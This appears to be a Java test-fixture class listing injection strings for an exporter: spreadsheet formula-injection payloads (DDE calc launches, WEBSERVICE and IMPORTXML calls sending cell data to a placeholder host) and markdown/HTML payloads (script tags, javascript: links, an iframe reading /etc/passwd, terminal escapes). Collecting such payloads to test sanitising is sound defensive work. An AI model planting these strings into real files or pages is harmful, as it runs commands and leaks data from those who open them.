package app.mitjul.exchange.out;

import java.util.List;

/// What people have put into texts so that somebody else's program runs it.
final class Payloads {

    static final List<String> FORMULAS = List.of("=1+1", "=cmd|'/c calc'!A0",
            "=HYPERLINK(\"http://x.invalid\",\"click\")",
            "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A1:A9),\"//a\")", "=WEBSERVICE(\"http://x.invalid\")",
            "=DDE(\"cmd\";\"/c calc\";\"x\")", "+1+1", "+cmd|' /c calc'!A0", "-2+3+cmd|' /c calc'!A0",
            "@SUM(1+1)*cmd|' /c calc'!A0",
            "\t=1+1", "\r=1+1", "\n=1+1", " \t =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u3000＝1", "\u200B=1+1",
            "\uFEFF=1+1",
            "\u202E=1+1", "\u2068=1", "\u00A0=1", "'=1+1", "''=1+1", "'\u200B=1", "\u0000=1", "\u000B=1", "\u2028=1",
            "\u00AD=1",
            "\uDB40\uDC3D=1", "=1\",\"=2", "\"=1+1", "\"\"=1+1", "=\"\"\"", "=-+@", "=;=1", "\t", "\r", "\n", "=", "+",
            "-", "@");

    static final List<String> LIVE = List.of("[click](javascript:alert(1))", "[a](<javascript:alert(1)>)",
            "![x](http://x.invalid/pixel.png)", "![x][y]\n\n[y]: http://x.invalid", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<svg/onload=alert(1)>",
            "<iframe src=file:///etc/passwd>", "<!-- x -->", "<?php x ?>", "<![CDATA[x]]>", "</p><b>x",
            "<javascript:alert(1)>",
            "<http://x.invalid>", "<a@x.invalid>", "http://x.invalid", "www.x.invalid", "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;",
            "# heading", "Heading\n===", "Heading\n---", "> quote", "- list", "1. list", "1) list", "    code",
            "\tcode",
            "```\ncode\n```", "~~~\ncode", "`code`", "**bold** *it* __b__ ~~s~~", "***", "* * *", "---",
            "| a | b |\n|---|---|",
            "[^1]\n\n[^1]: note", "- [ ] task", "$x$ $$y$$", "\\(x\\)", "\\", "\\\\[a](b)", "a\\", "[[wiki]]",
            ":emoji:",
            "\u001B[31mred", "\u001B]0;title\u0007", "\u009B31m", "\u0000<b>", "a\r\n<b>", "a\u2028# b", "a\u0085# b",
            "a\u000B# b",
            "[a]: javascript:alert(1)\n[a]", "![](\u202Ejavascript:x)", "<a\u200Bhref=x>", "+ list\n+ list",
            "*[HTML]: x",
            "{::options /}", "{% x %}", "{{ x }}", "<%= x %>", "${x}", "#tag @name", "==mark==", "%%x%%", "! [a] (b)");

    private Payloads() {
    }
}
